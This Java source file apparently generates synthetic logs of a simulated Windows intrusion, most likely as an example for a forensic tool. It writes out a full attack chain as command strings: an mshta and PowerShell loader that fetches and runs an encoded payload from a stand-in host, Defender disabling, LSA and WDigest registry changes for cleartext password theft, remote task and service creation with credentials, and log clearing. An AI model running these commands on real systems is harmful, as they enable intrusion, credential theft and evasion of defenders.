package io.ashiato.cli.example;

import static io.ashiato.cli.example.Network.at;

import java.time.Duration;
import java.time.Instant;

/// The story: what the intruder does, in order. Its course is that of a published case (see the README of
/// the example); times, names, addresses, files and commands are invented.
final class Intrusion {
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final String DOCUMENT = "C:\\Users\\j.sato\\Downloads\\Senior Administrator - Job Description.doc";
    private static final String SHORTCUT = "C:\\Users\\j.sato\\AppData\\Local\\Temp\\Job Description.lnk";
    private static final String PROFILER = "C:\\Users\\Public\\Music\\license.vbs";
    private static final String LOADER_SCRIPT = "C:\\Users\\Public\\Music\\chk.ps1";
    private static final String IMPLANT = "C:\\ProgramData\\prntsvc.exe";
    private static final String IMPLANT_OUTPUT = "C:\\ProgramData\\perflog.dat";
    private static final String SECURITY_PACKAGE = SYSTEM32 + "wdmsp.dll";
    private static final String INJECTOR = "C:\\ProgramData\\NTUSER.cat";
    private static final String PASSWORD_TOOL = "C:\\ProgramData\\nlsvc.exe";
    private static final String STOLEN_LOG = "C:\\ProgramData\\s.evtx";
    private static final String SERVER_IMPLANT = "C:\\ProgramData\\hpsvc.exe";

    // A point cannot be part of a real bit.ly address, so this one leads nowhere.
    private static final String LURE_LINK = "https://bit.ly/2Kx.example";

    private static final Address DOWNLOAD_SITE = new Address("198.51.100.61", "files.chainjobs.example");
    private static final Address SHORTENER = new Address("203.0.113.20", "bit.ly");
    private static final Address SCRIPT_SERVER = new Address("198.51.100.44", "docs.blockshare.example");
    private static final Address CONTROL_SERVER = new Address("203.0.113.77", "-");

    private static final String LSA = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa";
    private static final String WDIGEST = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest";
    private static final String PACKAGES =
            "\"Security Packages\" /t REG_MULTI_SZ /d kerberos\\0msv1_0\\0schannel\\0wdigest\\0tspkg\\0pku2u\\0wdmsp /f";
    private static final String DEFENDER = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender";

    private final Machine workstation;
    private final Machine server;
    private final WorkstationDays days;
    private final ServerDays serverDays;

    /// Account of the server's administrator, as the intruder uses it from the workstation.
    private final Session stolen = new Session(Account.TANAKA, 0x41f6c3, 0, "High");

    Intrusion(Machine workstation, Machine server, WorkstationDays days, ServerDays serverDays) {
        this.workstation = workstation;
        this.server = server;
        this.days = days;
        this.serverDays = serverDays;
    }

    void happen() {
        openDocument();
        RunningProcess mshta = startScriptThroughShortcut();
        RunningProcess powershell = profileAndFetch(mshta);
        RunningProcess implant = startImplant(powershell);
        switchDefenderOff(implant);
        lookRound(implant);
        settleInLsass(implant);
        loadAtEachStart();
        workstation.writeFile(at("10-04 00:31:18"), days.lsass(at("10-04 00:31:18")), INJECTOR);
        RunningProcess friday = injectIntoExplorer(at("10-04 00:31:20"));
        readPasswords(friday);
        changeServerByTasks(friday);
        RunningProcess serverImplant = installOnServer(friday);
        RunningProcess monday = injectIntoExplorer(at("10-07 00:22:41"));
        reachWallet(monday);
        removeTraces(monday, serverImplant);
    }

    /// The document comes by the browser, from a message to a private account.
    private void openDocument() {
        RunningProcess chrome = days.browser(at("10-03 01:07:14"));
        workstation.lookUp(at("10-03 01:10:31"), chrome, DOWNLOAD_SITE);
        workstation.connect(at("10-03 01:10:32"), chrome, DOWNLOAD_SITE, 443);
        workstation.writeFile(at("10-03 01:10:36"), chrome, DOCUMENT);
        workstation.logs.write(workstation.sysmon.streamCreated(
                workstation.chance.within(at("10-03 01:10:37")),
                chrome,
                DOCUMENT + ":Zone.Identifier",
                "[ZoneTransfer]  ZoneId=3  HostUrl=https://files.chainjobs.example/d/Senior%20Administrator.doc  "));
    }

    /// Macro, shortcut, mshta.
    private RunningProcess startScriptThroughShortcut() {
        RunningProcess word = workstation.start(
                at("10-03 01:12:38"),
                days.explorer(at("10-03 01:12:38")),
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + DOCUMENT + "\" /o \"\"");
        workstation.writeFile(at("10-03 01:13:05"), word, SHORTCUT);
        workstation.start(at("10-03 01:13:06"), word, "C:\\Windows\\explorer.exe", "explorer.exe \"" + SHORTCUT + "\"");
        RunningProcess opener = workstation.start(
                at("10-03 01:13:07"),
                days.broker(at("10-03 01:13:07")),
                word.session(),
                "C:\\Windows\\explorer.exe",
                "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding");
        RunningProcess cmd = workstation.start(
                at("10-03 01:13:08"),
                opener,
                word.session(),
                SYSTEM32 + "cmd.exe",
                "\"C:\\Windows\\System32\\cmd.exe\" /c start /b %SystemRoot%\\System32\\mshta " + LURE_LINK,
                "C:\\Users\\Public\\Music\\");
        RunningProcess mshta =
                workstation.start(at("10-03 01:13:09"), cmd, SYSTEM32 + "mshta.exe", SYSTEM32 + "mshta  " + LURE_LINK);
        workstation.lookUp(at("10-03 01:13:10"), mshta, SHORTENER);
        workstation.connect(at("10-03 01:13:11"), mshta, SHORTENER, 443);
        workstation.lookUp(at("10-03 01:13:12"), mshta, SCRIPT_SERVER);
        workstation.connect(at("10-03 01:13:13"), mshta, SCRIPT_SERVER, 8080);
        workstation.load(at("10-03 01:13:14"), mshta, SYSTEM32 + "mshtml.dll", "Microsoft Windows");
        workstation.load(at("10-03 01:13:15"), mshta, SYSTEM32 + "vbscript.dll", "Microsoft Windows");
        return mshta;
    }

    /// The script describes the host to its server, which answers with PowerShell.
    private RunningProcess profileAndFetch(RunningProcess mshta) {
        workstation.load(at("10-03 01:13:19"), mshta, SYSTEM32 + "wbemcomn.dll", "Microsoft Windows");
        workstation.writeFile(at("10-03 01:13:24"), mshta, PROFILER);
        RunningProcess wscript = workstation.start(
                at("10-03 01:13:26"),
                mshta,
                SYSTEM32 + "wscript.exe",
                "\"C:\\Windows\\System32\\wscript.exe\" //B " + PROFILER + " docs.blockshare.example:8080/edit");
        workstation.start(at("10-03 01:13:33"), wscript, SYSTEM32 + "whoami.exe", "whoami /groups");
        workstation.start(at("10-03 01:13:41"), wscript, SYSTEM32 + "systeminfo.exe", "systeminfo");
        workstation.start(at("10-03 01:13:52"), wscript, SYSTEM32 + "tasklist.exe", "tasklist /v");
        for (String poll : new String[] {"10-03 01:14:30", "10-03 01:17:31", "10-03 01:20:32", "10-03 01:23:34"}) {
            workstation.connect(at(poll), wscript, SCRIPT_SERVER, 8080);
        }
        workstation.writeFile(at("10-03 01:26:37"), wscript, LOADER_SCRIPT);
        RunningProcess powershell = workstation.startPowerShell(
                at("10-03 01:26:40"),
                wscript,
                wscript.session(),
                "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -File " + LOADER_SCRIPT
                        + " 198.51.100.44 8080");
        workstation.runScript(at("10-03 01:26:42"), powershell, """
                param($s, $p)
                $w = New-Object Net.WebClient
                $d = $w.DownloadData("http://198.51.100.44:8080/v2/thumb.jpg")
                for ($i = 0; $i -lt $d.Length; $i++) { $d[$i] = $d[$i] -bxor 0x5A }
                [IO.File]::WriteAllBytes("C:\\ProgramData\\prntsvc.exe", $d)
                Start-Process "C:\\ProgramData\\prntsvc.exe" -Verb RunAs
                """, LOADER_SCRIPT, true);
        workstation.connect(at("10-03 01:26:43"), powershell, SCRIPT_SERVER, 8080);
        return powershell;
    }

    /// The backdoor, directly in `C:\ProgramData`. The user agrees to run it as administrator.
    private RunningProcess startImplant(RunningProcess powershell) {
        workstation.writeFile(at("10-03 01:26:47"), powershell, IMPLANT);
        RunningProcess appInfo = workstation.running(
                at("10-02 23:41:31"),
                SYSTEM32 + "svchost.exe",
                SYSTEM32 + "svchost.exe -k netsvcs -p -s Appinfo",
                Session.SYSTEM);
        workstation.start(
                at("10-03 01:26:49"), appInfo, SYSTEM32 + "consent.exe", "consent.exe 5488 312 000001D30F24C5A0");
        RunningProcess implant = workstation.start(
                at("10-03 01:26:55"), powershell, powershell.session().elevated(), IMPLANT, "\"" + IMPLANT + "\" ");
        workstation.connect(at("10-03 01:26:57"), implant, CONTROL_SERVER, 443);
        RunningProcess netsh = command(
                at("10-03 01:41:12"),
                implant,
                "netsh",
                "netsh advfirewall firewall add rule name=\"Print Notify\" dir=in action=allow protocol=TCP localport=8443");
        workstation.writeFile(at("10-03 01:41:13"), netsh, IMPLANT_OUTPUT);
        return implant;
    }

    /// Windows Defender off, by PowerShell.
    private void switchDefenderOff(RunningProcess implant) {
        RunningProcess shell = workstation.start(
                at("10-03 01:44:50"),
                implant,
                SYSTEM32 + "cmd.exe",
                "cmd.exe /c \"powershell >> " + IMPLANT_OUTPUT + " 2>&1\"");
        String disable = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true";
        RunningProcess powershell = workstation.startPowerShell(
                at("10-03 01:44:52"), shell, shell.session(), "-NoProfile -Command " + disable);
        workstation.runScript(at("10-03 01:44:54"), powershell, disable, "", false);
        RunningProcess engine = days.antimalware();
        for (String setting : new String[] {"DisableRealtimeMonitoring", "DisableBehaviorMonitoring"}) {
            workstation.setRegistry(
                    at("10-03 01:44:55"),
                    engine,
                    DEFENDER + "\\Real-Time Protection\\" + setting,
                    "DWORD (0x00000001)");
            workstation.logs.write(workstation.defender.settingChanged(
                    workstation.chance.within(at("10-03 01:44:56")),
                    "Default\\Real-Time Protection\\" + setting + " = 0x0",
                    DEFENDER + "\\Real-Time Protection\\" + setting + " = 0x1"));
        }
        workstation.logs.write(
                workstation.defender.realTimeProtectionOff(workstation.chance.within(at("10-03 01:44:57"))));
        workstation.logs.write(workstation.defender.scanningOff(workstation.chance.within(at("10-03 01:44:58"))));
    }

    private void lookRound(RunningProcess implant) {
        command(at("10-03 01:52:03"), implant, "ipconfig", "ipconfig /all");
        command(at("10-03 01:52:48"), implant, "net", "net group \"Domain Admins\" /domain");
        command(at("10-03 01:53:35"), implant, "nltest", "nltest /dclist:corp.example");
        command(at("10-03 01:55:10"), implant, "net", "net view /domain:CORP");
        command(at("10-03 01:58:26"), implant, "ping", "ping -n 1 APP-02");
        workstation.connect(at("10-03 02:00:05"), implant, CONTROL_SERVER, 443);
    }

    /// A library that lsass.exe loads, Credential Guard off, passwords kept in clear.
    private void settleInLsass(RunningProcess implant) {
        workstation.writeFile(at("10-03 02:10:15"), implant, SECURITY_PACKAGE);
        setByReg(
                at("10-03 02:11:02"),
                implant,
                "reg add " + LSA + " /v " + PACKAGES,
                LSA + "\\Security Packages",
                "Binary Data");
        setByReg(
                at("10-03 02:12:37"),
                implant,
                "reg add " + LSA + " /v LsaCfgFlags /t REG_DWORD /d 0 /f",
                LSA + "\\LsaCfgFlags",
                "DWORD (0x00000000)");
        setByReg(
                at("10-03 02:13:09"),
                implant,
                "reg add " + WDIGEST + " /v UseLogonCredential /t REG_DWORD /d 1 /f",
                WDIGEST + "\\UseLogonCredential",
                "DWORD (0x00000001)");
    }

    /// From the next start on lsass.exe loads the library, to the end of the story.
    private void loadAtEachStart() {
        for (Instant start : days.startsAfter(at("10-03 02:11:02"))) {
            workstation.load(start.plusSeconds(9), days.lsass(start.plusSeconds(9)), SECURITY_PACKAGE, "");
            workstation.logs.write(workstation.security.securityPackageLoaded(
                    workstation.chance.within(start.plusSeconds(10)), SECURITY_PACKAGE + " : wdmsp"));
        }
    }

    /// Code from an encrypted file gets into explorer.exe.
    ///
    /// @return that explorer.exe
    private RunningProcess injectIntoExplorer(Instant time) {
        RunningProcess rundll = workstation.start(
                time, days.lsass(time), SYSTEM32 + "rundll32.exe", "rundll32.exe " + INJECTOR + ",#1");
        workstation.load(time.plusSeconds(1), rundll, INJECTOR, "");
        RunningProcess explorer = days.explorer(time);
        workstation.logs.write(workstation.sysmon.processOpened(
                workstation.chance.within(time.plusSeconds(2)),
                rundll,
                rundll.id() + 88,
                explorer,
                0x143a,
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9c524|C:\\Windows\\System32\\KERNELBASE.dll+6a685|"
                        + "UNKNOWN(00000000671C1A4F)"));
        workstation.logs.write(workstation.sysmon.remoteThreadCreated(
                workstation.chance.within(time.plusSeconds(3)), rundll, explorer, 9348, 0x04D10000L));
        workstation.connect(time.plusSeconds(5), explorer, CONTROL_SERVER, 443);
        return explorer;
    }

    /// The server's administrator has logged on to help, so his password is there too.
    private void readPasswords(RunningProcess explorer) {
        days.visit(at("10-04 00:52:40"), Duration.ofMinutes(21), Account.TANAKA, Network.TANAKAS_WORKSTATION);
        workstation.writeFile(at("10-04 01:20:11"), explorer, PASSWORD_TOOL);
        RunningProcess tool = workstation.start(
                at("10-04 01:20:14"), explorer, explorer.session().elevated(), PASSWORD_TOOL, PASSWORD_TOOL);
        workstation.logs.write(workstation.sysmon.processOpened(
                workstation.chance.within(at("10-04 01:20:15")),
                tool,
                tool.id() + 64,
                days.lsass(at("10-04 01:20:15")),
                0x1010,
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9c524|C:\\Windows\\System32\\KERNELBASE.dll+2730e|" + PASSWORD_TOOL
                        + "+1c2f7"));
        workstation.writeFile(at("10-04 01:20:17"), tool, "C:\\ProgramData\\perflog.evt");
        workstation.end(at("10-04 01:20:18"), tool);
        workstation.connect(at("10-04 01:34:02"), explorer, CONTROL_SERVER, 443);
    }

    /// The server's registry is changed by tasks that run reg.exe there and are deleted.
    private void changeServerByTasks(RunningProcess explorer) {
        server.networkLogon(at("10-04 02:05:31"), at("10-04 02:12:52"), stolen, Network.WORKSTATION, 52418);
        changeServerByTask(
                at("10-04 02:05:30"),
                explorer,
                "\\Microsoft\\Windows\\Maintenance\\CoreSync",
                "add " + WDIGEST + " /v UseLogonCredential /t REG_DWORD /d 1 /f");
        changeServerByTask(
                at("10-04 02:09:44"),
                explorer,
                "\\Microsoft\\Windows\\Maintenance\\CoreSync2",
                "add " + LSA + " /v LsaCfgFlags /t REG_DWORD /d 0 /f");
    }

    private void changeServerByTask(Instant time, RunningProcess explorer, String name, String regArguments) {
        String login = " /s APP-02 /u CORP\\a.tanaka /p Invented-2019 /tn \"" + name + "\"";
        String action = "reg.exe " + regArguments;
        ScheduledTask task = new ScheduledTask(name, "CORP\\a.tanaka", "2019-10-04T23:50:00", "reg.exe", regArguments);
        RunningProcess cmd = workstation.start(time, explorer, SYSTEM32 + "cmd.exe", "cmd.exe");
        String schtasks = SYSTEM32 + "schtasks.exe";

        workstation.start(
                time.plusSeconds(2),
                cmd,
                schtasks,
                "schtasks /create" + login + " /tr \"" + action + "\" /sc once /st 23:50 /ru SYSTEM /f");
        Instant created = server.chance.within(time.plusSeconds(3));
        server.logs.write(server.security.taskCreated(created, stolen, task));
        server.logs.write(server.tasks.registered(created.plusMillis(4), name, "CORP\\a.tanaka"));

        workstation.start(time.plusSeconds(20), cmd, schtasks, "schtasks /run" + login);
        server.logs.write(server.tasks.triggeredByUser(
                server.chance.within(time.plusSeconds(21)),
                name,
                "CORP\\a.tanaka",
                server.chance.uuid().toString()));
        RunningProcess reg = server.start(
                time.plusSeconds(22),
                serverDays.scheduler(),
                SYSTEM32 + "reg.exe",
                SYSTEM32 + "reg.exe " + regArguments);
        server.runTask(time.plusSeconds(22), Duration.ofMillis(213), name, "NT AUTHORITY\\SYSTEM", "reg.exe", reg.id());

        workstation.start(time.plusSeconds(44), cmd, schtasks, "schtasks /delete" + login + " /f");
        Instant deleted = server.chance.within(time.plusSeconds(45));
        server.logs.write(server.security.taskDeleted(deleted, stolen, task));
        server.logs.write(server.tasks.deleted(deleted.plusMillis(3), name, "CORP\\a.tanaka"));
    }

    /// A copy of the backdoor over the administrative share, started as a service.
    private RunningProcess installOnServer(RunningProcess explorer) {
        Session logon = new Session(Account.TANAKA, 0x43b911, 0, "High");
        RunningProcess cmd = workstation.start(at("10-04 03:01:52"), explorer, SYSTEM32 + "cmd.exe", "cmd.exe");
        server.networkLogon(at("10-04 03:02:08"), at("10-04 03:09:40"), logon, Network.WORKSTATION, 52733);
        server.logs.write(server.security.shareOpened(
                server.chance.within(at("10-04 03:02:09")), logon, Network.WORKSTATION, 52733, "C$", "\\??\\C:\\"));
        server.logs.write(server.security.shareFileOpened(
                server.chance.within(at("10-04 03:02:10")),
                logon,
                Network.WORKSTATION,
                52733,
                "C$",
                "\\??\\C:\\",
                "ProgramData\\hpsvc.exe",
                true));
        workstation.start(
                at("10-04 03:03:40"),
                cmd,
                SYSTEM32 + "sc.exe",
                "sc \\\\APP-02 create HpSvc binPath= " + SERVER_IMPLANT + " start= auto");
        Instant installed = server.chance.within(at("10-04 03:03:41"));
        server.logs.write(server.security.serviceInstalled(installed, logon, "HpSvc", SERVER_IMPLANT));
        server.logs.write(
                server.system.serviceInstalled(installed.plusMillis(2), Account.TANAKA, "HpSvc", SERVER_IMPLANT));
        workstation.start(at("10-04 03:03:58"), cmd, SYSTEM32 + "sc.exe", "sc \\\\APP-02 start HpSvc");
        RunningProcess implant =
                server.start(at("10-04 03:03:59"), serverDays.services(), SERVER_IMPLANT, SERVER_IMPLANT);
        server.logs.write(server.system.serviceState(server.chance.within(at("10-04 03:04:00")), "HpSvc", "running"));
        serverCommand(at("10-04 03:11:22"), implant, "tasklist", "tasklist /svc");
        serverCommand(at("10-04 03:12:05"), implant, "quser", "quser");
        serverCommand(
                at("10-04 03:14:37"),
                implant,
                "netsh",
                "netsh advfirewall firewall add rule name=\"HP Svc\" dir=in action=allow protocol=TCP localport=8443");
        server.start(
                at("10-04 03:21:50"),
                implant,
                SYSTEM32 + "cmd.exe",
                "cmd.exe /c \"dir C:\\Wallet /s >> " + IMPLANT_OUTPUT + " 2>&1\"");
        return implant;
    }

    /// The account of the wallet service, which never logs on from elsewhere, reads its key file.
    private void reachWallet(RunningProcess explorer) {
        Session logon = new Session(Account.WALLET_SERVICE, 0x7c20d5, 0, "High");
        RunningProcess cmd = workstation.start(at("10-07 02:09:48"), explorer, SYSTEM32 + "cmd.exe", "cmd.exe");
        workstation.start(
                at("10-07 02:10:02"),
                cmd,
                SYSTEM32 + "net.exe",
                "net use \\\\APP-02\\Wallet$ /user:CORP\\svc-wallet Invented-w4llet");
        server.networkLogon(at("10-07 02:10:03"), at("10-07 02:31:10"), logon, Network.WORKSTATION, 53906);
        server.logs.write(server.security.shareOpened(
                server.chance.within(at("10-07 02:10:04")),
                logon,
                Network.WORKSTATION,
                53906,
                "Wallet$",
                "\\??\\C:\\Wallet"));
        for (String file : new String[] {"conf\\wallet.conf", "keys\\hot-wallet.dat"}) {
            server.logs.write(server.security.shareFileOpened(
                    server.chance.within(at("10-07 02:10:41")),
                    logon,
                    Network.WORKSTATION,
                    53906,
                    "Wallet$",
                    "\\??\\C:\\Wallet",
                    file,
                    false));
        }
        workstation.connect(at("10-07 02:14:20"), explorer, CONTROL_SERVER, 443);
    }

    /// Logs read, taken and cleared; programs deleted. The library in lsass.exe is in use and stays.
    private void removeTraces(RunningProcess explorer, RunningProcess serverImplant) {
        Session elevated = explorer.session().elevated();
        RunningProcess cmd =
                workstation.start(at("10-07 06:11:30"), explorer, elevated, SYSTEM32 + "cmd.exe", "cmd.exe");
        String wevtutil = SYSTEM32 + "wevtutil.exe";
        workstation.start(
                at("10-07 06:12:04"),
                cmd,
                wevtutil,
                "wevtutil qe Security /q:\"*[System[(EventID=4624)]]\" /c:50 /rd:true /f:text");
        RunningProcess export =
                workstation.start(at("10-07 06:18:33"), cmd, wevtutil, "wevtutil epl Security " + STOLEN_LOG);
        workstation.writeFile(at("10-07 06:18:34"), export, STOLEN_LOG);
        workstation.connect(at("10-07 06:21:57"), explorer, CONTROL_SERVER, 443);
        for (String program : new String[] {IMPLANT, PASSWORD_TOOL, INJECTOR}) {
            workstation.deleteFile(at("10-07 06:40:12"), explorer, program, true);
        }
        for (String file :
                new String[] {IMPLANT_OUTPUT, "C:\\ProgramData\\perflog.evt", STOLEN_LOG, PROFILER, LOADER_SCRIPT}) {
            workstation.deleteFile(at("10-07 06:40:13"), explorer, file, false);
        }
        workstation.start(at("10-07 06:44:10"), cmd, wevtutil, "wevtutil cl Security");
        workstation.clearSecurityLog(at("10-07 06:44:11"), elevated);
        workstation.start(at("10-07 06:44:21"), cmd, wevtutil, "wevtutil cl \"Windows PowerShell\"");
        workstation.clearLog(at("10-07 06:44:22"), Account.SATO, "Windows PowerShell");

        server.start(at("10-07 06:52:08"), serverImplant, SYSTEM32 + "cmd.exe", "cmd.exe /c sc delete HpSvc");
        server.start(
                at("10-07 06:52:30"),
                serverImplant,
                SYSTEM32 + "cmd.exe",
                "cmd.exe /c ping 127.0.0.1 -n 5 > nul & del /f " + SERVER_IMPLANT);
    }

    /// The backdoor's way to run a command: by cmd.exe, the output into a file.
    private RunningProcess command(Instant time, RunningProcess implant, String program, String line) {
        return command(workstation, time, implant, program, line);
    }

    private void serverCommand(Instant time, RunningProcess implant, String program, String line) {
        command(server, time, implant, program, line);
    }

    private static RunningProcess command(
            Machine machine, Instant time, RunningProcess implant, String program, String line) {
        RunningProcess cmd = machine.start(
                time, implant, SYSTEM32 + "cmd.exe", "cmd.exe /c \"" + line + " >> " + IMPLANT_OUTPUT + " 2>&1\"");
        return machine.start(time.plusSeconds(1), cmd, SYSTEM32 + program + ".exe", line);
    }

    private void setByReg(Instant time, RunningProcess implant, String line, String value, String details) {
        RunningProcess reg = command(time, implant, "reg", line);
        workstation.setRegistry(time.plusSeconds(2), reg, value.replace("HKLM\\SYSTEM\\", "HKLM\\System\\"), details);
    }
}
